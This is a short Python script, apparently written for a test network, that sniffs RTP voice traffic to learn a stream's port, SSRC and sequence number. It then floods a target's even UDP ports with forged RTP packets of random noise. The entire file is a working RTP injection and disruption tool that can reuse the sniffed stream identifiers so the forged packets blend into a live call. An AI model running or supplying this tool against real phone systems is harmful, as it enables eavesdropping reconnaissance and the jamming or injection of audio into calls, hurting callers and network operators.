"""Run on a device of the test network: `watch` reads RTP that passes an interface, `attack` sends RTP where it should not.

  rtp_tool.py watch SOURCE_ADDRESS            prints the first packet's port, SSRC and sequence as JSON
  rtp_tool.py attack TARGET SECONDS LOW-HIGH [SSRC SEQUENCE]
      loud noise to every even port, 50 times a second; prints how many packets were sent and how many came back
"""

import ipaddress
import json
import random
import select
import socket
import struct
import sys
import time


def watch(source):
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sniffer.settimeout(10)
    wanted = ipaddress.ip_address(source).packed
    while True:
        frame = sniffer.recv(2048)
        ip = frame[14:]
        if ip[9] != socket.IPPROTO_UDP or ip[12:16] != wanted:
            continue
        udp = ip[(ip[0] & 15) * 4 :]
        port, rtp = struct.unpack("!H", udp[2:4])[0], udp[8:]
        if len(rtp) == 172 and rtp[0] == 0x80:
            return {"port": port, "sequence": struct.unpack("!H", rtp[2:4])[0],
                    "ssrc": struct.unpack("!I", rtp[8:12])[0]}


def attack(target, seconds, ports, ssrc=None, sequence=None):
    low, high = map(int, ports.split("-"))
    ssrc = int(ssrc) if ssrc else random.getrandbits(32)
    sequence = int(sequence) if sequence else random.getrandbits(16)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.bind(("", 40000))
    sent = received = 0
    end, tick = time.monotonic() + float(seconds), time.monotonic()
    while tick < end:
        noise = random.randbytes(160)
        packet = struct.pack("!BBHII", 0x80, 0, sequence & 0xFFFF, sequence * 160 & 0xFFFFFFFF, ssrc) + noise
        for port in range(low + low % 2, high, 2):
            try:
                out.sendto(packet, (target, port))
                sent += 1
            except ConnectionRefusedError:
                pass  # that port is not open
        sequence, tick = sequence + 1, tick + 0.02
        while select.select([out], [], [], max(0, tick - time.monotonic()))[0]:
            try:
                out.recv(2048)
                received += 1
            except ConnectionRefusedError:
                pass
    return {"sent": sent, "received": received}


print(json.dumps({"watch": watch, "attack": attack}[sys.argv[1]](*sys.argv[2:])))
